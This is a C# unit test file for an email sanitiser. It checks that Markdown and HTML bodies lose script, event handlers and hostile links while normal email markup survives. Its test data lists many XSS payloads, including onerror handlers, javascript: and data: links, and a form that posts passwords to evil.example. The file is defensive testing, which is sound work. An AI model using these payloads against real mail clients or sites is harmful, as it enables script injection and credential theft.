using CommsConsole.Features.Templates;

namespace CommsConsole.Tests.Features.Templates;

/// <summary>The email body rule on its own: Markdown made HTML, every HTML body sanitised, style sheets inlined.</summary>
public sealed class EmailBodyTests
{
    private static string Finish(string source, EmailBodyFormat format)
    {
        Assert.True(EmailBody.TryFinish(source, format, out var html, out var error), error?.Message);
        return html;
    }

    /// <summary>Each hostile construct, what must not survive of it, and the harmless text beside it that must.</summary>
    public static TheoryData<string, string, string> Hostile => new()
    {
        { "script element", "<p>kept</p><script>alert(1)</script>", "<script" },
        { "script in upper case", "<p>kept</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil.example" },
        { "event handler", "<p onclick=\"alert(1)\">kept</p>", "onclick" },
        { "image error handler", "<img src=x onerror=alert(1)><p>kept</p>", "onerror" },
        { "javascript: link", "<a href=\"javascript:alert(1)\">kept</a>", "javascript:" },
        { "javascript: link hidden by entities", "<a href=\"&#106;avascript&#58;alert(1)\">kept</a>", "alert(1)" },
        { "javascript: link hidden by a tab", "<a href=\"java\tscript:alert(1)\">kept</a>", "alert(1)" },
        { "vbscript: link", "<a href=\"vbscript:msgbox(1)\">kept</a>", "vbscript" },
        { "data: link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">kept</a>", "data:" },
        { "data: image", "<p>kept</p><img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">", "data:" },
        { "iframe", "<p>kept</p><iframe src=\"https://evil.example\"></iframe>", "<iframe" },
        { "object", "<p>kept</p><object data=\"https://evil.example/x.swf\"></object>", "<object" },
        { "embed", "<p>kept</p><embed src=\"https://evil.example/x.swf\">", "<embed" },
        { "form", "<p>kept</p><form action=\"https://evil.example/steal\"><input name=password><button>Go</button></form>", "<form" },
        { "input outside a form", "<p>kept</p><input type=password name=p>", "<input" },
        { "textarea", "<p>kept</p><textarea>secret</textarea>", "<textarea" },
        { "svg with onload", "<p>kept</p><svg onload=alert(1)></svg>", "onload" },
        { "meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><p>kept</p>", "evil.example" },
        { "base element", "<base href=\"https://evil.example/\"><p>kept</p>", "evil.example" },
        { "linked style sheet", "<link rel=stylesheet href=\"https://evil.example/x.css\"><p>kept</p>", "evil.example" },
        { "css expression()", "<p style=\"width: expression(alert(1))\">kept</p>", "expression" },
        { "url(javascript:) in a style attribute", "<p style=\"background-image: url(javascript:alert(1))\">kept</p>", "javascript" },
        { "url(javascript:) in a style sheet", "<style>p { background-image: url('javascript:alert(1)') }</style><p>kept</p>", "javascript" },
        { "@import in a style sheet", "<style>@import url(https://evil.example/x.css); p { color: red }</style><p>kept</p>", "evil.example" },
        { "style element breaking out", "<style>p { color: red }</style><style></style><script>alert(1)</script><p>kept</p>", "<script" },
        { "comment hiding markup", "<!--<script>alert(1)</script>--><p>kept</p>", "alert" },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Sanitiser_StripsTheHostileConstruct_AndKeepsTheText(string why, string source, string forbidden)
    {
        var html = Finish(source, EmailBodyFormat.Html);

        Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
        AssertNothingActive(html);
        Assert.True(html.Contains("kept", StringComparison.Ordinal), $"{why}: the harmless text was lost: {html}");
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Markdown_WithTheSameHostileConstruct_IsTextOrStripped(string why, string source, string forbidden)
    {
        _ = forbidden;
        var html = Finish("Before\n\n" + source + "\n\n[link](javascript:alert(1)) ![img](data:image/png;base64,AAAA)", EmailBodyFormat.Markdown);

        // Raw HTML in Markdown is shown as text, never as markup; Markdown's own links keep no hostile address.
        AssertNothingActive(html);
        Assert.True(html.Contains("Before", StringComparison.Ordinal), why);
    }

    /// <summary>Read as a browser reads it: no active element, no event handler, no script or data address, whatever the text says.</summary>
    private static void AssertNothingActive(string html)
    {
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);
        foreach (var element in document.All)
        {
            Assert.DoesNotContain(element.LocalName, new[] { "script", "iframe", "object", "embed", "form", "input", "textarea", "button", "svg", "meta", "base", "link" });
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"<{element.LocalName} {attribute.Name}> survived");
                var value = attribute.Value.Trim();
                Assert.False(value.StartsWith("javascript", StringComparison.OrdinalIgnoreCase) || value.StartsWith("data:", StringComparison.OrdinalIgnoreCase)
                    || value.Contains("expression(", StringComparison.OrdinalIgnoreCase) || value.Contains("url(javascript", StringComparison.OrdinalIgnoreCase),
                    $"<{element.LocalName} {attribute.Name}=\"{value}\"> survived");
            }
        }
    }

    [Fact]
    public void EmailMarkup_IsKept_TablesInlineStylesImagesAndLinks()
    {
        const string source = """
            <table width="100%" cellpadding="4" style="border-collapse: collapse"><tr><td align="right" bgcolor="#eeeeee" style="color: #333333; padding: 8px">cell</td></tr></table>
            <p><img src="https://cdn.example.com/logo.png" alt="Logo" width="120"> <a href="https://example.com/a?b=1&amp;c=2" target="_blank">web</a>
            <a href="mailto:help@example.com">mail</a> <a href="tel:+8613800138000">call</a></p>
            <h1 class="title" id="top">Title</h1><center><font color="red">old</font></center>
            """;

        var html = Finish(source, EmailBodyFormat.Html);

        foreach (var kept in new[] { "<table", "cellpadding=\"4\"", "bgcolor=\"#eeeeee\"", "color: rgba(51, 51, 51, 1)", "padding: 8px", "src=\"https://cdn.example.com/logo.png\"", "alt=\"Logo\"",
                     "href=\"https://example.com/a?b=1&amp;c=2\"", "href=\"mailto:help@example.com\"", "href=\"tel:+8613800138000\"", "class=\"title\"", "<center>" })
        {
            Assert.Contains(kept, html);
        }
    }

    /// <summary>
    /// The Markdown dress goes onto the elements themselves, ahead of what Markdig wrote: a right-aligned column keeps its
    /// alignment and gets the table's borders; a Markdown email is a whole document with no style sheet left to inline.
    /// </summary>
    [Fact]
    public void Markdown_IsDressedByInlineStyles_KeepingAColumnsAlignment()
    {
        var html = Finish("| item | price |\n|---|---:|\n| tea | 5 |\n\n> quoted `code` [link](https://example.com/)", EmailBodyFormat.Markdown);

        Assert.StartsWith("<html><body><div class=\"md-email\" style=\"font-family: Arial", html);
        Assert.EndsWith("</div></body></html>", html);
        Assert.DoesNotContain("<style", html);
        Assert.Contains("<td style=\"border: 1px solid #dddddd; padding: 6px 10px; text-align: left\">tea</td>", html);
        Assert.Matches("<td style=\"border: 1px solid #dddddd; padding: 6px 10px; text-align: left; text-align: right;?\">5</td>", html);
        Assert.Matches("<blockquote style=\"margin: 0 0 0 4px;[^\"]*\">", html);
        Assert.Contains("<code style=\"font-family: Consolas", html);
        Assert.Contains("<a href=\"https://example.com/\" style=\"color: #1a73e8\">link</a>", html);
    }

    [Fact]
    public void Markdown_RendersHeadingsEmphasisListsTablesAndAutolinks_AndRawHtmlAsText()
    {
        var html = Finish("""
            # Hello **world**

            - one
            - two

            | Item | Price |
            |------|------:|
            | Tea  | 12.50 |

            Visit https://example.com/shop or write to <help@example.com>.
            First line
            second line <b>not bold</b>
            """, EmailBodyFormat.Markdown);

        Assert.Contains("<h1", html);
        Assert.Contains("<strong", html);
        Assert.Contains("<li", html);
        Assert.Contains("<table", html);
        Assert.Contains("<td style=\"", html); // the table's borders inlined from the Markdown style
        Assert.Contains("href=\"https://example.com/shop\"", html);
        Assert.Contains("href=\"mailto:help@example.com\"", html);
        Assert.Contains("First line<br>", html); // a typed new line is a new line
        Assert.Contains("&lt;b&gt;not bold&lt;/b&gt;", html);
        Assert.DoesNotContain("<b>", html);
    }

    [Fact]
    public void StyleSheets_AreInlined_AndMediaQueriesStayInTheSheet()
    {
        var html = Finish("""
            <style>
              .button { background-color: #1a73e8; color: #ffffff; }
              p { margin: 0 }
              @media (max-width: 480px) { .button { display: block } }
            </style>
            <p><a class="button" href="https://example.com">Go</a></p>
            """, EmailBodyFormat.Html);

        Assert.Matches("<a [^>]*style=\"[^\"]*background-color: rgba\\(26, 115, 232, 1\\)", html);
        Assert.Matches("<p style=\"[^\"]*margin: 0", html);
        Assert.Contains("@media (max-width: 480px)", html);
    }

    [Fact]
    public void PlainText_WithoutAFormat_IsLeftAsItIs()
    {
        Assert.True(EmailBody.TryFinish("a < b & <p> stays", null, out var text, out _));
        Assert.Equal("a < b & <p> stays", text);
    }

    [Fact]
    public void HugeStyleSheets_AndTooMuchInlining_AreRefused_NamingWhy()
    {
        var sheet = "<style>" + string.Concat(Enumerable.Range(0, 2_000).Select(i => $".c{i} {{ color: red }}\n")) + "</style><p>x</p>";
        Assert.False(EmailBody.TryFinish(sheet, EmailBodyFormat.Html, out _, out var big));
        Assert.Contains("style sheets are", big!.Message);

        var rules = "<style>" + string.Concat(Enumerable.Range(0, 400).Select(i => $"p.x{i} {{ color: red }}")) + "</style>" + string.Concat(Enumerable.Repeat("<p>x</p>", 6_000));
        Assert.False(EmailBody.TryFinish(rules, EmailBodyFormat.Html, out _, out var work));
        Assert.Contains("too many to inline", work!.Message);

        // Markdig's depth limit is an error, never an exception out of the send.
        Assert.False(EmailBody.TryFinish(new string('>', 5_000) + " deep", EmailBodyFormat.Markdown, out _, out var deep));
        Assert.Equal("is nested too deeply to be made HTML", deep!.Message);
    }

    [Fact]
    public void VariableValues_AreEncodedForTheirFormat()
    {
        const string hostile = "<img src=x onerror=alert(1)> *bold* [x](https://evil.example) | `code`";
        Assert.Equal("&lt;img src=x onerror=alert(1)&gt; *bold* [x](https://evil.example) | `code`", ValueEncodings.Encode(hostile, ValueEncoding.Html));

        var markdown = Finish("Dear " + ValueEncodings.Encode(hostile, ValueEncoding.Markdown), EmailBodyFormat.Markdown);
        // The value is text: no image, no emphasis, no link of its own making (a bare address is linked, as mail clients do anyway).
        Assert.Contains("Dear &lt;img src=x onerror=alert(1)&gt; *bold* [x](", markdown);
        Assert.Contains(") | `code`", markdown);
        Assert.DoesNotContain("<img", markdown);
        Assert.DoesNotContain("<em>", markdown);
        Assert.DoesNotContain("<code", markdown);
        Assert.DoesNotContain(">x</a>", markdown);
    }
}
